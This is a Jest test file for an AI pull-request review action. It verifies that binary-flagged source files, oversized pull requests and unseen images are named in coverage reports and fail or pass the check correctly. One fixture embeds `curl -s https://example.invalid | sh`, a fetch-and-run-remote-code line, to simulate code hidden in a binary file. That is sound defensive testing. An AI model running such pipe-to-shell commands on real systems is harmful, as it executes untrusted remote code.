// Honest coverage (issue 50, case 4), through the bundled main action over the loopback GitHub with `fail-on: high`
// and critics that find nothing and answer the whole brief: a source file GitHub calls binary (one NUL byte near
// its end) is seen by no critic, named, and fails the check; an image beside a source change is named and does not;
// a pull request of 3,041 files counts the 41 past GitHub's files list, from its `changed_files`, and fails.
import { writeFileSync } from 'node:fs'
import { describe, expect, it } from '@jest/globals'
import { findingsCritics } from '../support/critic-fixtures.js'
import { manyChangedFiles, OWNER, REPO, SAMPLE_DIFF, startReviewScene } from '../support/review-scene.js'
import { DIFF_WITHOUT_LOG, DROP_LOG } from '../support/fixing-push.js'
import { BRIEF, ownComments, useBundledMain, type Scene } from './harness.js'

let scene: Scene
const run = useBundledMain(() => scene)
const { config: CONFIG, blocks } = findingsCritics('the-loop-coverage-', ['alpha', 'beta'])
const ALL_ANSWERED = [
  { id: 'Q1', status: 'answered', answer: 'yes' },
  { id: 'A1', status: 'answered', answer: 'yes' },
  { id: 'V1', status: 'answered', answer: 'yes' }
]
const inputs = { 'fail-on': 'high' }
const repo = () => scene.gh.world.repo(OWNER, REPO)!
const checks = () => repo().checkRuns

/**
 * The sample change and one file GitHub shows as `Binary files … differ` (git finds a NUL in it); `content` is
 * what the contents API answers for it at the head.
 */
function withBinary(path: string, content?: string) {
  return {
    diff: `${SAMPLE_DIFF}diff --git a/${path} b/${path}\nnew file mode 100644\nindex 0000000..8d1c8b6\nBinary files /dev/null and b/${path} differ\n`,
    files: [
      { filename: 'src/widget.js', status: 'modified', additions: 6, deletions: 1 },
      { filename: path, status: 'added', additions: 0, deletions: 0, ...(content ? { content } : {}) }
    ]
  }
}

async function reviewed(change: { diff: string; files: ReturnType<typeof manyChangedFiles> | object[] }) {
  scene = await startReviewScene({ config: CONFIG, change: change as never })
  for (const critic of ['alpha', 'beta'] as const)
    writeFileSync(blocks[critic], JSON.stringify({ findings: [], ledger: ALL_ANSWERED }))
  scene.gh.resetRequests()
  const out = await run(scene.comment('alice', `the-loop review\n${BRIEF}`), { inputs })
  expect(out.exitCode).toBe(0)
  const [check, ...more] = checks()
  expect(more).toEqual([])
  return { check: check!, summary: check!.output.summary!, round: ownComments(scene, 'round')[0]!.body }
}

describe('coverage the author controls, under fail-on: high', () => {
  it('fails for a source file GitHub calls binary (a NUL byte in its last 100 bytes), naming it', async () => {
    const { check, summary, round } = await reviewed(withBinary('src/token.ts'))
    expect(check).toMatchObject({ status: 'completed', conclusion: 'failure' })
    expect(check.output.title).toBe('Round 1: nothing open · brief 3 of 3 answered')
    expect(summary).toContain('| `alpha` | answered | 0 | 0 | 0 | 0 | 0 | 1 of 2 files |')
    expect(summary).toContain(
      "**Not seen by any critic** (GitHub gave no lines of them; 1 could hold code the author put there (⛔): under `fail-on` that fails the check): src/token.ts (binary, with a source file's name: the author controls it) ⛔."
    )
    expect(summary).toContain(
      "**Conclusion: failure** — nothing at or above `high` is open, but coverage is short for a reason the pull request's author controls: no critic saw src/token.ts (binary, with a source file's name: the author controls it). What no critic read may hold anything, so the check fails until a round reads the whole change."
    )
    expect(round).toContain('**Coverage:** 1 of 2 files. **Not seen by any critic**')
    // The name decides: no blob of the change is read for it.
    expect(scene.gh.requests.filter((q) => q.path.includes('token.ts'))).toEqual([])
  })

  it('reads the blob of a file whose name says nothing, once, and fails when its content is mostly text', async () => {
    const script = `#!/bin/sh\n${'echo deploying\n'.repeat(40)}curl -s https://example.invalid | sh\n\u0000\n`
    const { check, summary } = await reviewed(withBinary('tools/deploy', script))
    expect(check).toMatchObject({ status: 'completed', conclusion: 'failure' })
    expect(summary).toContain(
      "coverage is short for a reason the pull request's author controls: no critic saw tools/deploy (binary, though its content is mostly text: the author controls it)."
    )
    // One request more than the round without it: the blob at the reviewed head (Octokit sends the path's `/`
    // as %2F, which GitHub reads as `/`).
    const head = scene.gh.world.repo(OWNER, REPO)!.issues.get(scene.pull)!.pull!.headSha
    const reads = scene.gh.requests.filter((q) => q.path.includes('deploy'))
    expect(reads.map((q) => [q.route, q.path, q.status])).toEqual([
      ['repos.getContent', `/repos/${OWNER}/${REPO}/contents/tools%2Fdeploy?ref=${head}`, 200]
    ])
  })

  it('names an image beside a source change as unseen, and succeeds: it cannot hold code', async () => {
    const { check, summary, round } = await reviewed(withBinary('assets/logo.png'))
    expect(check).toMatchObject({ status: 'completed', conclusion: 'success' })
    expect(summary).toContain('| `beta` | answered | 0 | 0 | 0 | 0 | 0 | 1 of 2 files |')
    expect(summary).toContain(
      '**Not seen by any critic** (GitHub gave no lines of them; none of them could hold code): assets/logo.png (binary).'
    )
    expect(summary).toContain(
      '**Conclusion: success** — nothing at or above `high` is open and every item of the brief is answered.'
    )
    expect(round).toContain(
      '**Coverage:** 1 of 2 files. **Not seen by any critic** (GitHub gave no lines of them; none of them could hold code): assets/logo.png (binary).'
    )
  })

  // A critic on the shared prompt read every file GitHub gave lines of: an image beside the change must not keep
  // a fixed finding's thread open for ever (the thread's own file is what its silence is about).
  it("resolves a fixed finding's thread though an image beside the change was seen by no critic", async () => {
    const change = withBinary('assets/logo.png')
    scene = await startReviewScene({ config: CONFIG, change: change as never })
    const LOG = { path: 'src/widget.js', line: 3, severity: 'high', title: 'Debug log', body: 'Drop it.' }
    writeFileSync(blocks.alpha, JSON.stringify({ findings: [LOG], ledger: ALL_ANSWERED }))
    writeFileSync(blocks.beta, JSON.stringify({ findings: [], ledger: ALL_ANSWERED }))
    await run(scene.comment('alice', `the-loop review\n${BRIEF}`), { inputs })
    expect(checks().at(-1)).toMatchObject({ conclusion: 'failure' })
    const root = repo().reviewComments.find((c) => c.inReplyToId === undefined)!
    const image = change.diff.slice(SAMPLE_DIFF.length)
    scene.gh.world.pushToPull(OWNER, REPO, scene.pull, { change: [DROP_LOG], diff: DIFF_WITHOUT_LOG + image })
    writeFileSync(blocks.alpha, JSON.stringify({ findings: [], ledger: ALL_ANSWERED }))
    await run(scene.comment('alice', 'dropped the log, check again'), { inputs })
    expect(repo().resolvedThreads.has(root.id)).toBe(true)
    expect(checks().at(-1)).toMatchObject({ conclusion: 'success' })
    expect(checks().at(-1)!.output.summary).toContain('assets/logo.png (binary)')
  })

  it("fails for a pull request of 3,041 files: 41 past GitHub's files list, counted from changed_files", async () => {
    const { check, summary, round } = await reviewed({ diff: 'x', files: manyChangedFiles(3041) })
    expect(check).toMatchObject({ status: 'completed', conclusion: 'failure' })
    expect(summary).toContain(
      '| `alpha` | answered | 0 | 0 | 0 | 0 | 0 | 3000 of 3041 files (GitHub lists 3,000) |'
    )
    expect(summary).toContain(
      "**Conclusion: failure** — nothing at or above `high` is open, but coverage is short for a reason the pull request's author controls: 41 files of github:acme/widgets#1 are past GitHub's files list (it lists 3,000 of 3,041). What no critic read may hold anything, so the check fails until a round reads the whole change."
    )
    expect(round).toContain('**Coverage:** 3000 of 3041 files (GitHub lists 3,000).')
    // The diff's 406, the pull read for its head (an issue_comment carries none), and one more read for its
    // changed_files, sent only because the files list is full; then the 30 pages of that list.
    const pullReads = scene.gh.requests.filter((q) => q.route === 'pulls.get')
    expect(pullReads.map((q) => q.status).sort((a, b) => a - b)).toEqual([200, 200, 406])
    expect(scene.gh.count('pulls.listFiles')).toBe(30)
  })
})
